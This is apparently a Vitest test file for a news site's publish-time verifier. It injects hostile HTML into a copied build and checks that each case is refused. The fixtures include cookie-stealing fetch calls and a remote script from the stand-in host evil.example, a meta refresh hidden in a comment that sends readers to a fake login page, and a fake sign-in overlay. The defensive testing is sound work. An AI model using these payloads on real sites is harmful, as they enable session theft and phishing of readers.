import { spawnSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdirSync, readFileSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { MAX_HOSTED_FILE_BYTES } from '../../src/content/limits';
import { listFiles } from '../helpers/dist';
import { ROOT, SITES, TMP } from '../helpers/sites';

/**
 * `npm run verify` is the second line of defence: whatever got past check:content and the
 * build, verify must refuse to publish it. Each class of hostile output is written by hand into
 * a copy of a real build, as text (as an attacker's story would come out of the build), and
 * verify, which parses every page as a browser does, must fail naming the file and the reason.
 */
/** The global setup's build of the fixtures (this file runs in the `site` project, vitest.config.ts). */
const BUILT = SITES.fixtures.outDir;
const HOSTILE = `${TMP}/verify-hostile-injected`;
const CACHE = `${TMP}/verify-hostile-html-cache.json`;

const verify = (dir: string) => {
  const r = spawnSync('npm', ['run', '--silent', 'verify', '--', dir], {
    cwd: ROOT,
    encoding: 'utf8',
    env: { ...process.env, MASTHEAD_VERIFY_CACHE: CACHE },
  });
  return { status: r.status, out: `${r.stdout}\n${r.stderr}` };
};
/** The lines verify prints for problems (`  ✗ file: message`). */
const problems = (out: string) => out.split('\n').filter((l) => l.startsWith('  ✗ '));

const edit = (file: string, change: (text: string) => string) => {
  const before = readFileSync(join(HOSTILE, file), 'utf8');
  const after = change(before);
  if (after === before) throw new Error(`the edit of ${file} changed nothing; the fixture moved`);
  writeFileSync(join(HOSTILE, file), after);
};
/** Writes `html` at the start of a story's body, inside its container, as a story's raw HTML would be. */
const intoBody = (file: string, html: string) => edit(file, (t) => t.replace(/(<div[^>]*\bdata-article-body\b[^>]*>)/, `$1${html}`));

const REFRESH_PAGE = 'news/2026/10/02/slug-from-frontmatter/index.html';
const HANDLER_PAGE = 'news/2026/03/01/late-evening-local-time/index.html';
const LEAK_PAGE = 'news/2026/11/21/wire-story/index.html';
const FORGED_END_PAGE = 'news/2026/11/19/multi-author/index.html';
const EXTERNAL_SCRIPT_PAGE = 'authors/ada-reporter/index.html';
const INLINE_SCRIPT_PAGE = 'topics/water/index.html';
/** A copy of a real alias redirect page, at an address no `_redirects` rule has. */
const FAKE_REDIRECT_PAGE = '2026/07/river-trail-copy.html';
const BIG_FILE = 'audio/huge/episode.mp3';
const SVG_SCRIPT = '_astro/chart.Dx1a2b3c.svg';
const SVG_ONLOAD = '_astro/map.Qz9y8x7w.svg';

describe('npm run verify against hostile output injected into a built site', () => {
  let untouched: ReturnType<typeof verify>;
  let hostile: ReturnType<typeof verify>;
  let lines: string[];
  const about = (file: string) => lines.filter((l) => l.startsWith(`  ✗ ${file}: `));

  beforeAll(() => {
    rmSync(CACHE, { force: true });
    untouched = verify(BUILT);

    rmSync(HOSTILE, { recursive: true, force: true });
    cpSync(BUILT, HOSTILE, { recursive: true });
    // A comment a browser ends at `--!>` (htmlparser2 reads on to `-->`), hiding a refresh.
    intoBody(REFRESH_PAGE, '<!-- x --!><meta http-equiv="refresh" content="0; url=https://evil.example/login"> -->');
    intoBody(HANDLER_PAGE, '<img src="/favicon.svg" alt="" onerror="fetch(`https://evil.example/?c=${document.cookie}`)">');
    // A raw `</div>` closes the body's container; the overlay reuses the player's class, and a
    // `<div>` reopened after it keeps the tags balanced, as an attacker would write it.
    intoBody(
      LEAK_PAGE,
      '<p>Read on.</p></div><div class="live-player" style="position:fixed;inset:0;height:100vh">Your session expired. Sign in again.</div><div>',
    );
    // A story that writes its own end mark, to end the body before its overlay.
    intoBody(
      FORGED_END_PAGE,
      '<p>Read on.</p><div data-article-body-end="forged" hidden></div></div><div class="live-player" style="position:fixed;inset:0">Sign in again.</div><div>',
    );
    cpSync(join(HOSTILE, '2026/07/river-trail.html'), join(HOSTILE, FAKE_REDIRECT_PAGE));
    edit(EXTERNAL_SCRIPT_PAGE, (t) => t.replace('</body>', '<script src="https://evil.example/x.js"></script></body>'));
    edit(INLINE_SCRIPT_PAGE, (t) => t.replace('</main>', '<script>fetch("https://evil.example/?" + document.cookie)</script></main>'));
    appendFileSync(join(HOSTILE, '_redirects'), '/rss.xml /news/2026/11/21/wire-story/ 301\n/old/* /news/:splat 301\n');
    // 26 MiB without writing 26 MiB: a sparse file.
    mkdirSync(join(HOSTILE, 'audio/huge'), { recursive: true });
    writeFileSync(join(HOSTILE, BIG_FILE), '');
    truncateSync(join(HOSTILE, BIG_FILE), 26 * 1024 * 1024);
    writeFileSync(
      join(HOSTILE, SVG_SCRIPT),
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/>\n<script>fetch("https://evil.example/?" + document.cookie)</script></svg>\n',
    );
    writeFileSync(
      join(HOSTILE, SVG_ONLOAD),
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(document.domain)"><rect width="10" height="10"/></svg>\n',
    );
    hostile = verify(HOSTILE);
    lines = problems(hostile.out);
  });

  it('passes the untouched build', () => {
    expect(problems(untouched.out)).toEqual([]);
    expect(untouched.out).toMatch(/verify page code: ok[\s\S]*verify articles: ok[\s\S]*verify files: ok/);
    expect(untouched.status).toBe(0);
  });

  it('fails the build with the injections', () => {
    expect(hostile.status).toBe(1);
  });

  it('refuses a meta refresh in a story page, hidden from other parsers in a `--!>` comment', () => {
    expect(about(REFRESH_PAGE)).toContainEqual(
      expect.stringMatching(
        /has <meta http-equiv="refresh" .*sending readers to "0; url=https:\/\/evil\.example\/login", but it is not an alias redirect page/,
      ),
    );
  });

  it('takes a page for an alias redirect page only where _redirects has its alias', () => {
    expect(about(FAKE_REDIRECT_PAGE)).toContainEqual(
      expect.stringMatching(/has <meta http-equiv="refresh" .*but it is not an alias redirect page/),
    );
    expect(about('2026/07/river-trail.html')).toEqual([]);
  });

  it('refuses a script from another site', () => {
    expect(about(EXTERNAL_SCRIPT_PAGE)).toContainEqual(
      expect.stringContaining('loads a script from https://evil.example/x.js (<script src="https://evil.example/x.js">'),
    );
  });

  it('refuses an inline script no template wrote', () => {
    expect(about(INLINE_SCRIPT_PAGE)).toContainEqual(
      expect.stringMatching(/has an inline script no template writes \(<script> \(line \d+\): fetch\(/),
    );
  });

  it('refuses an inline event handler', () => {
    expect(about(HANDLER_PAGE)).toContainEqual(
      expect.stringMatching(/has an inline event handler onerror= on <img src="\/favicon.svg" alt onerror=/),
    );
  });

  it('refuses elements a story body leaked out of its container with a `</div>`', () => {
    expect(about(LEAK_PAGE)).toContainEqual(
      expect.stringMatching(
        /the story body leaks out of its container: <div class="live-player" style="position:fixed;inset:0;height:100vh"> \(line \d+\) and \d+ more elements ended up outside \[data-article-body\]/,
      ),
    );
  });

  it('refuses a story that writes its own end mark', () => {
    expect(about(FORGED_END_PAGE)).toContainEqual(
      expect.stringMatching(/has 1 story body containers \[data-article-body\] and 2 end markers \[data-article-body-end\]/),
    );
  });

  it('refuses a _redirects rule that shadows a file of the build', () => {
    expect(about('_redirects')).toContainEqual(expect.stringContaining('/rss.xml shadows rss.xml, a file of the build'));
  });

  it('refuses a splat rule in _redirects', () => {
    expect(about('_redirects')).toContainEqual(expect.stringContaining('/old/* /news/:splat is a splat or placeholder rule'));
  });

  it('refuses a file over the host limit', () => {
    expect(statSync(join(HOSTILE, BIG_FILE)).size).toBeGreaterThan(MAX_HOSTED_FILE_BYTES);
    expect(about(BIG_FILE)).toEqual([`  ✗ ${BIG_FILE}: is 26 MB; Cloudflare Pages refuses files over 25 MB`]);
  });

  it('refuses an SVG with a script', () => {
    expect(about(SVG_SCRIPT)).toContainEqual(expect.stringContaining('is an SVG with <script> (line 2)'));
  });

  it('refuses an SVG with an onload handler', () => {
    expect(about(SVG_ONLOAD)).toContainEqual(expect.stringContaining('is an SVG with the event handler onload= on <svg> (line 1)'));
  });

  it('names no file it was not handed', () => {
    const injected = new Set([
      REFRESH_PAGE,
      FAKE_REDIRECT_PAGE,
      HANDLER_PAGE,
      LEAK_PAGE,
      FORGED_END_PAGE,
      EXTERNAL_SCRIPT_PAGE,
      INLINE_SCRIPT_PAGE,
      BIG_FILE,
      SVG_SCRIPT,
      SVG_ONLOAD,
      '_redirects',
    ]);
    const named = new Set(lines.map((l) => l.slice(4, l.indexOf(': '))));
    expect([...named].filter((f) => !injected.has(f))).toEqual([]);
    // Every file it was handed is in the copy, so a name cannot match by accident.
    expect([...injected].filter((f) => !listFiles(HOSTILE).includes(f))).toEqual([]);
  });
});
